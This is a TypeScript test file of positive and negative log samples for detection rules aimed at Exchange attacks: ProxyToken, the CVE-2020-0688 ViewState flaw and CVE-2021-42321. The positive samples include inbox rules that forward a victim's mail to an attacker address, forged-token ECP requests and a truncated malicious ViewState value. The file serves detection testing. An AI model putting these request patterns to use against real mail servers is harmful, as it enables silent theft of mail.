// ProxyToken (CVE-2021-33766), CVE-2020-0688 and CVE-2021-42321 cases: ZDI's ProxyToken and CVE-2020-0688
// write-ups, Microsoft's CVE-2021-42321 query, SigmaHQ's MSExchange Management description of it.
import type { RuleCase } from '../harness.js';
import { corr, evt, iis, mgmt, UA_CHROME } from './build.js';

const VS = '__VIEWSTATEGENERATOR=B97B4E27&__VIEWSTATE=%2FwEyhAYAAQAAAP%2F%2F%2F%2F8BAAAAAAAAAAwCAAAAXk1pY3Jvc29mdC5Qb3dlclNoZWxsLkVkaXRvcg';

export const cases: RuleCase[] = [
  {
    rule: 'other-cves/ecp_server_inbox_rule_forwarding.yml',
    log: 'ecp-server',
    tp: [
      { EventData: "S:TIME=30;'S:CMD=New-InboxRule.Mailbox=''victim@contoso.com''.Name=''x''.ForwardTo=''attacker@evil.example''';S:URL=/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject?SecurityToken=1" },
      { EventData: "S:TIME=12;'S:CMD=Set-InboxRule.Identity=''jdoe\\7''.RedirectTo=''x@evil.example''';S:URL=/ecp/RulesEditor/InboxRules.svc/SetObject" },
    ],
    tn: [
      { EventData: "S:TIME=9;'S:CMD=New-InboxRule.Name=''Newsletters''.From=''news@vendor.example''.MoveToFolder=''Newsletters''';S:URL=/ecp/RulesEditor/InboxRules.svc/NewObject" },
      { EventData: "S:TIME=4;'S:CMD=Set-Mailbox.Identity=''jdoe''.MailTip=''Forwarding questions to the help desk''';S:URL=/ecp/DDI/DDIService.svc/SetObject" },
    ],
  },
  {
    rule: 'other-cves/iis_proxytoken_cve_2021_33766.yml',
    log: 'iis',
    tp: [
      iis({ m: 'POST', stem: '/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject', q: `SecurityToken=1&${corr}`, ua: 'python-requests/2.26.0', status: 500 }),
      iis({ m: 'POST', stem: '/ecp/victim@contoso.com/RulesEditor/InboxRules.svc/NewObject', q: `msExchEcpCanary=x&${corr}`, ua: UA_CHROME, status: 500 }),
    ],
    tn: [
      iis({ m: 'POST', stem: '/ecp/RulesEditor/InboxRules.svc/NewObject', q: `msExchEcpCanary=x&${corr}`, user: 'CONTOSO\\jdoe', ua: UA_CHROME, status: 200 }),
      iis({ m: 'POST', stem: '/ecp/DDI/DDIService.svc/GetList', q: `schema=MailboxService&${corr}`, user: 'CONTOSO\\exadmin', ua: UA_CHROME, status: 500 }),
    ],
  },
  {
    rule: 'other-cves/iis_cve_2020_0688_viewstate.yml',
    log: 'iis',
    tp: [iis({ stem: '/ecp/default.aspx', q: `${VS}&${corr}`, user: 'CONTOSO\\jdoe', ua: 'python-requests/2.22.0', status: 500 })],
    tn: [iis({ stem: '/ecp/default.aspx', user: 'CONTOSO\\exadmin', ua: UA_CHROME }), iis({ m: 'POST', stem: '/owa/auth.owa', ua: UA_CHROME, status: 302 })],
  },
  {
    rule: 'other-cves/app_cve_2020_0688_ecp_viewstate_error.yml',
    log: 'evtx',
    tp: [evt('Application', 'MSExchange Control Panel', 4, { Data: `An unexpected error occurred. Url: https://mail.contoso.com:444/ecp/default.aspx?${VS} Exception: System.Web.HttpException: The state information is invalid for this page` }, 2)],
    tn: [evt('Application', 'MSExchange Control Panel', 4, { Data: 'An unexpected error occurred. Url: https://mail.contoso.com:444/ecp/default.aspx Exception: System.TimeoutException' }, 2)],
  },
  {
    rule: 'other-cves/app_cve_2021_42321_binaryformatter.yml',
    log: 'evtx',
    tp: [evt('Application', 'MSExchange Common', 4999, { Data: 'Watson report about to be sent for process id: 1234, with parameters: E12IIS, c-RTL-AMD64, 15.01.2375.012, w3wp#MSExchangeOWAAppPool, M.Exchange.Common, at System.Runtime.Serialization.Formatters.Binary.BinaryFormatter.Deserialize(Stream serializationStream)' }, 2)],
    tn: [
      evt('Application', 'MSExchange Common', 4999, { Data: 'Watson report about to be sent for process id: 1234, with parameters: E12IIS, c-RTL-AMD64, 15.01.2375.012, w3wp#MSExchangeOWAAppPool, System.NullReferenceException' }, 2),
      evt('Application', 'MSExchange Common', 106, { Data: 'Performance counter updating error. BinaryFormatter.Deserialize' }, 3),
    ],
  },
  {
    rule: 'other-cves/mgmt_cve_2021_42321_get_app.yml',
    log: 'evtx',
    tp: [
      evt('MSExchange Management', 'MSExchange CmdletLogs', 6, { Data: 'Cmdlet failed. Cmdlet Get-App, parameters {Mailbox=jdoe}. System.InvalidCastException' }, 2),
      evt('MSExchange Management', 'MSExchange CmdletLogs', 8, { Data: 'Task Get-App throwing unhandled exception: System.InvalidCastException: Unable to cast object' }, 2),
    ],
    tn: [mgmt('Get-App', '-Mailbox "jdoe"'), evt('MSExchange Management', 'MSExchange CmdletLogs', 6, { Data: 'Cmdlet failed. Cmdlet Get-Mailbox, parameters {Identity=x}' }, 2)],
  },
];
